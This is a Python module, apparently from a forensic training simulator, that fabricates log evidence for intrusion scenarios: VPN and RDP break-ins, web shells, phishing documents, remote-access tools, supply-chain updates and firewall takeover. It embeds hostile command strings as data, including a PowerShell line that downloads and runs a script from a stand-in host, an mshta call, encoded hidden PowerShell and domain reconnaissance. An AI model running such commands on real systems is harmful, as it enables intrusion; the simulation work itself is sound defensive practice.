"""Ways in. Each leaves the attacker on a machine (`base`) or at an inside address (`tunnel`)."""

from __future__ import annotations

from collections.abc import Sequence

from hikeshi.demo import logs
from hikeshi.demo.actions import CMD, EXPLORER, POWERSHELL, SERVICES
from hikeshi.demo.evidence_set import Record
from hikeshi.demo.incidents.incident import Incident
from hikeshi.demo.incidents.verbs import APACHE
from hikeshi.demo.ordinary import HOME_USERS, UPDATE_SITE, vpn_session
from hikeshi.demo.world import FIREWALL_LAN, FORTIGATE, HOUR, IIS, MINUTE, POOL, SECOND, SQUID
from hikeshi.events.time import to_datetime

_SYSTEM32 = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_RECON = (
    ("whoami.exe", "whoami /all"),
    ("net.exe", 'net group "Domain Admins" /domain'),
    ("nltest.exe", "nltest /domain_trusts /all_trusts"),
    ("net.exe", "net view /all /domain:KAEDE"),
)


def _look_around(inc: Incident) -> None:
    for image, command in inc.rng.sample(_RECON, 3):
        inc.run(_SYSTEM32 + image, command, CMD)


def _over_vpn(inc: Incident, account: str, records: Sequence[Record], *, asa: bool = False) -> None:
    """The VPN session, then remote desktop to a server through it."""
    time, tunnel = inc.now, f"10.212.134.{inc.rng.randrange(60, 99)}"
    if asa:
        records = [*inc.do.asa_vpn(account, inc.outside, tunnel, time, minutes=290), *records]
    else:
        records = [*vpn_session(inc.do, account, inc.outside, tunnel, time, minutes=290), *records]
    host = inc.take("RDS01") if inc.rng.random() < 0.6 else inc.server()
    inc.story.entry("vpn_credential", time, records, source=inc.outside, account=account, host=host)
    inc.story.aliases[tunnel] = [inc.outside]
    inc.tunnel = tunnel
    time = inc.wait(100, 600)
    session, records = inc.do.rdp(tunnel, host, account, time, minutes=240, client_name=inc.workstation)
    inc.story.spread(tunnel, host, account, "rdp", time, records)
    inc.settle(host, account, session)
    _look_around(inc)


def vpn_stolen(inc: Incident) -> None:
    """The password was known: no failure at all, from a network nobody used."""
    _over_vpn(inc, inc.rng.choice(HOME_USERS), [])


def vpn_guessed(inc: Incident) -> None:
    user, records = inc.rng.choice(HOME_USERS), []
    for _ in range(inc.rng.randrange(12, 60)):
        time = inc.wait(20, 70)
        records.append(
            inc.do.evidence.line(FORTIGATE, time, logs.fortigate_vpn_failure(time, source=inc.outside, user=user))
        )
    inc.wait(20, 60)
    _over_vpn(inc, user, records)


def vpn_sprayed(inc: Incident) -> None:
    """One password over many accounts, an hour apart."""
    users = inc.rng.sample([u.account for u in inc.world.users], 30)
    victim, records = inc.rng.choice(HOME_USERS), []
    inc.now -= 2 * HOUR
    for _ in range(2):
        for user in users:
            time = inc.wait(4, 15)
            if user != victim:
                line = logs.fortigate_vpn_failure(time, source=inc.outside, user=user)
                records.append(inc.do.evidence.line(FORTIGATE, time, line))
        inc.now += 40 * MINUTE
    _over_vpn(inc, victim, records[-12:])


def vpn_other_maker(inc: Incident) -> None:
    """A firewall of another make, failures from three addresses, success from a fourth."""
    user = inc.rng.choice(HOME_USERS)
    for source in inc.rng.sample(range(191, 250), 3):
        for _ in range(5):
            inc.do.asa_failure(user, f"203.0.113.{source}", inc.wait(30, 90))
    inc.wait(30, 200)
    _over_vpn(inc, user, [], asa=True)


def vpn_daytime(inc: Incident) -> None:
    """Stolen by phishing and used in office hours, when others work over the VPN too."""
    inc.now = inc.world.at(inc.day, "13:10") + inc.rng.randrange(100 * MINUTE)
    _over_vpn(inc, inc.rng.choice(HOME_USERS), [])


def _at_open_port(inc: Incident, host: str, account: str, kind: str, records: list[Record], port: int) -> None:
    time = inc.wait(20, 90)
    session, more = inc.do.rdp(inc.outside, host, account, time, minutes=200, client_name=inc.workstation)
    more += inc.do.traffic(
        inc.outside, inc.address(host), port, time, duration=9000, sent=9_000_000, received=80_000_000,
        interfaces=("wan1", "lan"), service="RDP" if port == 3389 else f"tcp/{port}",
    )  # fmt: skip
    inc.story.entry(kind, time, [*more, *records], source=inc.outside, account=account, host=host)
    inc.story.may("spread", [inc.outside, host, account, "rdp"])
    inc.settle(host, account, session)
    _look_around(inc)


def rdp_guessed(inc: Incident) -> None:
    """Remote desktop open to the Internet, guessed until it opened; other addresses guess too, in vain."""
    host, records = inc.server(), []
    account = inc.rng.choice(("adm-sato", "adm-kobayashi"))
    inc.admin, inc.other_admin = account, ("adm-sato", "adm-kobayashi")[account == "adm-sato"]
    for other in inc.rng.sample(range(200, 250), 4):
        for n in range(25):
            time = inc.now - 30 * HOUR + n * 7 * SECOND + other * MINUTE
            inc.do.failed_logon(host, inc.rng.choice(("administrator", "admin", "user")), 3, time, unknown=True,
                                address=f"198.51.100.{other}")  # fmt: skip
    for n in range(inc.rng.randrange(60, 160)):
        user = account if n % 3 else inc.rng.choice(("administrator", "admin", "test"))
        records += inc.do.failed_logon(host, user, 3, inc.wait(2, 12), address=inc.outside)
    _at_open_port(inc, host, account, "brute_force", records[-12:], 3389)


def maintenance_port(inc: Incident) -> None:
    """A vendor's forwarded port: the vendor's account, no failure, an address the vendor never used."""
    host, vendor = inc.server(), inc.add_account("maint-kura")
    for day in range(inc.day):
        if inc.world.is_workday(day) and day != inc.day:
            time = inc.world.at(day, "10:00") + inc.rng.randrange(5 * HOUR)
            inc.do.rdp("192.0.2.77", host, vendor, time, minutes=20, client_name="KURA-SUPPORT1")
            inc.do.traffic("192.0.2.77", inc.address(host), 23389, time, duration=1200, sent=900_000,
                           received=9_000_000, interfaces=("wan1", "lan"), service="tcp/23389")  # fmt: skip
    _at_open_port(inc, host, vendor, "remote_maintenance", [], 23389)


def rdp_known_password(inc: Incident) -> None:
    """Remote desktop open to the Internet and a password from elsewhere: two failures, then in."""
    host = inc.server()
    account = inc.owner(inc.clients[0])
    records = inc.do.failed_logon(host, account, 3, inc.wait(20, 60), address=inc.outside)
    records += inc.do.failed_logon(host, account, 3, inc.wait(20, 60), address=inc.outside)
    _at_open_port(inc, host, account, "exposed_rdp", records, 3389)


def web_shell(inc: Incident) -> None:
    """A file uploaded to the web server, then commands through it as the web server's own account."""
    leaf = inc.rng.choice(("img", "thumb", "help", "css", "def")) + str(inc.rng.randrange(10, 99)) + ".aspx"
    page, host = f"/portal/upload/{leaf}", "WEB01"
    records = [_hit(inc, "POST", "/portal/upload.aspx", 200)]
    records += inc.do.file_created(host, POOL, inc.now, _SYSTEM32 + "inetsrv\\w3wp.exe",
                                   f"C:\\inetpub\\wwwroot\\portal\\upload\\{leaf}")  # fmt: skip
    inc.story.entry("web_shell", inc.now, records, source=inc.outside, account=None, host=host)
    first = inc.now
    inc.base, inc.account, inc.session = host, POOL, inc.world.next_logon_id()
    shown: list[Record] = []
    for command in ("whoami", "ipconfig /all", 'net group "Domain Admins" /domain', "systeminfo"):
        inc.wait(20, 80)
        shown.append(_hit(inc, "POST", page, 200))
        shown += inc.do.process(host, POOL, inc.session, inc.now + SECOND // 2, CMD, f'"cmd.exe" /c {command}',
                                _SYSTEM32 + "inetsrv\\w3wp.exe", "w3wp.exe -ap PortalPool")  # fmt: skip
    inc.hold(host, first, shown)
    inc.story.claim("persistence", [host, "web_shell", leaf], first, shown)
    _potato(inc, host)


def web_shell_php(inc: Incident) -> None:
    """The same on Apache and PHP, whose log is the only other witness."""
    leaf, host = f"{inc.rng.choice(('wp-', 'cache-', 'o'))}{inc.rng.randrange(100, 999)}.php", "WEB01"
    for day in inc.world.days():
        for _ in range(120):
            time = inc.world.at(day, "00:00") + inc.rng.randrange(24 * HOUR)
            if time < inc.world.end - HOUR:
                path = inc.rng.choice(("/", "/index.php", "/news.php", "/contact.php", "/style.css"))
                _apache(inc, time, f"192.0.2.{inc.rng.randrange(210, 254)}", "GET", path)
    records = [_apache(inc, inc.now, inc.outside, "POST", "/form/upload.php")]
    inc.story.entry("web_shell", inc.now, records, source=inc.outside, account=None, host=host)
    first = inc.now
    inc.base, inc.account, inc.session = host, "SYSTEM", 0x3E7
    shown: list[Record] = []
    for command in ("whoami", "tasklist /svc", "net user /domain"):
        inc.wait(20, 80)
        shown.append(_apache(inc, inc.now, inc.outside, "POST", f"/form/files/{leaf}"))
        shown += inc.do.process(host, "SYSTEM", 0x3E7, inc.now + SECOND // 2, CMD, f'cmd.exe /c "{command}"',
                                "C:\\Apache24\\bin\\httpd.exe")  # fmt: skip
    inc.hold(host, first, shown)
    inc.story.claim("persistence", [host, "web_shell", leaf], first, shown)


def _apache(inc: Incident, time: int, client: str, method: str, path: str) -> Record:
    local = to_datetime(time).astimezone(logs.JST)
    line = f'{client} - - [{local:%d/%b/%Y:%H:%M:%S} +0900] "{method} {path} HTTP/1.1" 200 912 "-" "Mozilla/5.0"'
    return inc.do.evidence.line(APACHE, time, line)


def _hit(inc: Incident, method: str, path: str, status: int) -> Record:
    line = logs.iis(inc.now, server=inc.address("WEB01"), client=inc.outside, method=method, path=path, status=status,
                    agent="Mozilla/5.0")  # fmt: skip
    return inc.do.evidence.line(IIS, inc.now, line)


def _potato(inc: Incident, host: str) -> None:
    """From the web server's account to the system."""
    tool = "C:\\Windows\\Temp\\" + inc.rng.choice(("gp.exe", "jp64.exe", "svch.exe"))
    inc.do.file_created(host, POOL, inc.wait(30, 90), _SYSTEM32 + "inetsrv\\w3wp.exe", tool)
    inc.do.process(host, POOL, inc.session, inc.wait(5, 20), tool, f'{tool} -cmd "cmd.exe /c whoami"', CMD)
    inc.account, inc.session = "SYSTEM", 0x3E7


def mail_attachment(inc: Incident) -> None:
    """A document from a mail starts PowerShell; a beacon over the proxy follows."""
    inc.now = inc.world.at(inc.day, "09:40") + inc.rng.randrange(5 * HOUR)
    host = inc.client()
    user, session = inc.owner(host), inc.world.next_logon_id()
    program = inc.rng.choice(("EXCEL.EXE", "WINWORD.EXE"))
    ending = "xlsm" if program == "EXCEL.EXE" else "docm"
    document = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\A1\\御見積.{ending}"
    time = inc.now
    records = inc.do.file_created(host, user, time - SECOND, _OFFICE + "OUTLOOK.EXE", document)
    records += inc.do.process(host, user, session, time, _OFFICE + program, f'"{_OFFICE}{program}" "{document}"',
                              _OFFICE + "OUTLOOK.EXE")  # fmt: skip
    records += inc.do.process(host, user, session, time + 20 * SECOND, POWERSHELL,
                              "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
                              _OFFICE + program)  # fmt: skip
    inc.story.entry("mail_attachment", time, records, source=None, account=user, host=host)
    inc.settle(host, user, session)
    _beacon(inc, host)
    inc.wait(120, 600)
    _look_around(inc)


def mail_shortcut(inc: Incident) -> None:
    """A shortcut in an archive from a mail: Explorer starts mshta with an address outside."""
    inc.now = inc.world.at(inc.day, "10:10") + inc.rng.randrange(4 * HOUR)
    host = inc.client()
    user, session = inc.owner(host), inc.world.next_logon_id()
    folder = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\Temp1_発注書.zip"
    time = inc.now
    records = inc.do.file_created(host, user, time - 40 * SECOND, _OFFICE + "OUTLOOK.EXE",
                                  f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                                  "Content.Outlook\\B2\\発注書.zip")  # fmt: skip
    records += inc.do.file_created(host, user, time - 5 * SECOND, EXPLORER, folder + "\\発注書.pdf.lnk")
    records += inc.do.process(host, user, session, time, _SYSTEM32 + "mshta.exe",
                              f'"C:\\Windows\\System32\\mshta.exe" https://{inc.store}/a.hta', EXPLORER)  # fmt: skip
    records += inc.do.process(host, user, session, time + 4 * SECOND, POWERSHELL,
                              "powershell.exe -w hidden -ep bypass -c iwr https://cdn.example/b.ps1 | iex",
                              _SYSTEM32 + "mshta.exe")  # fmt: skip
    inc.story.entry("mail_attachment", time, records, source=None, account=user, host=host)
    inc.settle(host, user, session)
    _beacon(inc, host)
    _look_around(inc)


def _beacon(inc: Incident, host: str) -> None:
    name, time = f"cdn{inc.rng.randrange(100, 999)}-assets.example", inc.now + 40 * SECOND
    records: list[Record] = []
    while time < min(inc.now + 20 * HOUR, inc.world.end - HOUR):
        line = logs.squid(time, client=inc.address(host), host=name, address=inc.store, received=1187)
        records.append(inc.do.evidence.line(SQUID, time, line))
        time += 120 * SECOND + inc.rng.randrange(-9 * SECOND, 9 * SECOND)
    inc.story.claim("c2", name, inc.now, records[:20])
    inc.story.aliases[name] = [inc.store]


def remote_tool(inc: Incident) -> None:
    """A caller talks somebody into starting AnyDesk; the caller then works on the machine."""
    inc.now = inc.world.at(inc.day, "14:05") + inc.rng.randrange(2 * HOUR)
    host = inc.client()
    user, session = inc.owner(host), inc.world.next_logon_id()
    tool = f"C:\\Users\\{user}\\Downloads\\AnyDesk.exe"
    time = inc.now
    records = inc.do.process(host, user, session, time, tool, f'"{tool}"', EXPLORER)
    trace = inc.do.anydesk_trace(host, inc.outside, 912_000_000 + inc.rng.randrange(999_999), time + 70 * SECOND)
    inc.story.entry("remote_tool", time, [*records, *trace], source=inc.outside, account=user, host=host)
    inc.settle(host, user, session)
    inc.wait(100, 200)
    inc.run(CMD, '"C:\\Windows\\system32\\cmd.exe"', EXPLORER)
    _look_around(inc)


def remote_tool_service(inc: Incident) -> None:
    """An unattended ScreenConnect on a server: its service starts commands; no trace of the caller is kept."""
    host = inc.server()
    tool = "C:\\Program Files (x86)\\ScreenConnect Client (3f1a)\\ScreenConnect.ClientService.exe"
    inc.do.process(host, "SYSTEM", 0x3E7, inc.world.at(0, "08:00:11"), tool, f'"{tool}" "?e=Access&y=Guest"', SERVICES)
    inc.account, inc.session, inc.base = "SYSTEM", 0x3E7, host
    records = inc.do.process(host, "SYSTEM", 0x3E7, inc.now, CMD,
                             '"cmd.exe" /c "C:\\Windows\\TEMP\\ScreenConnect\\23.9\\b7run.cmd"', tool)  # fmt: skip
    records += inc.do.process(host, "SYSTEM", 0x3E7, inc.wait(10, 40), POWERSHELL,
                              "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
                              CMD)  # fmt: skip
    inc.story.entry("remote_tool", inc.now, records, source=None, account=None, host=host)
    inc.settle(host, "SYSTEM", 0x3E7)
    _look_around(inc)


def _updater(inc: Incident, hosts: list[str], program: str, parent: str) -> None:
    """Its everyday work first, then what the attacker's update starts on all machines at once."""
    for host in hosts:
        for day in range(inc.day):
            inc.do.process(host, "SYSTEM", 0x3E7, inc.world.at(day, "04:10") + inc.rng.randrange(9 * MINUTE), program,
                           f'"{program}" --check', SERVICES)  # fmt: skip
    time = inc.now
    everything: list[Record] = []
    for number, host in enumerate(hosts):
        moment = time + number * 40 * SECOND
        records = inc.do.process(host, "SYSTEM", 0x3E7, moment, program, f'"{program}" --apply', parent)
        records += inc.do.process(host, "SYSTEM", 0x3E7, moment + 8 * SECOND, POWERSHELL,
                                  "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
                                  program)  # fmt: skip
        line = logs.squid(moment + 9 * SECOND, client=inc.address(host), host="dl.kura-vendor.example",
                          address=UPDATE_SITE[1], received=190_000)  # fmt: skip
        inc.do.evidence.line(SQUID, moment + 9 * SECOND, line)
        inc.hold(host, moment, records)
        everything += records
    inc.story.entry("supplier", time, everything, source=None, account=None, host=hosts[0])
    inc.now = time + 4 * MINUTE
    inc.settle(hosts[0], "SYSTEM", 0x3E7)
    _look_around(inc)


def supply_chain(inc: Incident) -> None:
    """The signed updater of the backup agent starts PowerShell on three servers."""
    program = "C:\\Program Files\\KuraBackup\\kuraupd.exe"
    _updater(inc, [inc.server(), inc.server(), inc.client()], program, SERVICES)


def supply_chain_app(inc: Incident) -> None:
    """The updater of an accounting program, on two clients."""
    program = "C:\\Program Files (x86)\\Soroban\\Update\\SorobanUpdater.exe"
    inc.now = inc.world.at(inc.day, "12:20") + inc.rng.randrange(HOUR)
    _updater(inc, [inc.client(), inc.client()], program, "C:\\Windows\\System32\\svchost.exe")


def edge_device(inc: Incident) -> None:
    """The firewall itself is taken over; the attacker then works from its inside address."""
    time = inc.now
    records = inc.do.device_user_added(time, "fortisync", "127.0.0.1")
    records += inc.do.device_login(time + 50 * SECOND, "fortisync", inc.outside)
    account = inc.add_account("svc_ldap")
    for day in inc.world.days():
        for hour in range(0, 24, 3):
            moment = inc.world.at(day, f"{hour:02d}:12") + inc.rng.randrange(20 * MINUTE)
            if moment < inc.world.end - HOUR:
                inc.do.logon("DC01", account, 3, moment, address=FIREWALL_LAN, ntlm=True, workstation="-", stay_s=5)
    host = inc.server()
    inc.story.entry("vulnerability", time, records, source=inc.outside, account=None, host=host)
    inc.story.aliases[FIREWALL_LAN] = [inc.outside]
    inc.tunnel = FIREWALL_LAN
    moment = inc.wait(400, 1500)
    session, more = inc.do.rdp(FIREWALL_LAN, host, account, moment, minutes=190, client_name=inc.workstation)
    inc.story.spread(FIREWALL_LAN, host, account, "rdp", moment, more)
    inc.settle(host, account, session)
    _look_around(inc)


def edge_device_tools(inc: Incident) -> None:
    """The same, but with tools that run on the device: WMI straight from its inside address."""
    time = inc.now
    records = inc.do.device_login(time, "admin", inc.outside)
    records += inc.do.device_user_added(time + 90 * SECOND, "support2", inc.outside)
    host = inc.server()
    inc.story.entry("vulnerability", time, records, source=inc.outside, account=None, host=host)
    inc.story.aliases[FIREWALL_LAN] = [inc.outside]
    moment = inc.wait(400, 1500)
    session, more = inc.do.from_outside(FIREWALL_LAN, host, inc.admin, moment, "wmi", workstation=inc.workstation)
    inc.story.spread(FIREWALL_LAN, host, inc.admin, "wmi", moment, more)
    inc.settle(host, inc.admin, session)
    _look_around(inc)


def _told_as(method: str) -> str:
    """The remote shell that calls itself psexec leaves a service of its own, not PsExec's."""
    return "service" if method == "psexec_service" else method


def vpn_tools(inc: Incident) -> None:
    """Over the VPN, but never a desktop: tools on the attacker's own machine with an administrator's password.

    The VPN's log is not there: what remains is an inside address and a name the attacker's machine claims."""
    tunnel = f"10.212.134.{inc.rng.randrange(60, 99)}"
    host = inc.server()
    time = inc.now
    methods = ["wmi", "service", "psexec_service", "scheduled_task", "winrm"]
    inc.rng.shuffle(methods)
    session, records = inc.do.from_outside(tunnel, host, inc.admin, time, methods[0], workstation=inc.workstation)
    inc.story.entry("unknown", time, records, source=tunnel, account=inc.admin, host=host)
    inc.story.spread(tunnel, host, inc.admin, _told_as(methods[0]), time, records)
    for method in methods[1:3]:
        target = inc.server()
        moment = inc.wait(200, 900)
        _, more = inc.do.from_outside(tunnel, target, inc.admin, moment, method, workstation=inc.workstation)
        inc.story.spread(tunnel, target, inc.admin, _told_as(method), moment, more)
    inc.settle(host, inc.admin, session)
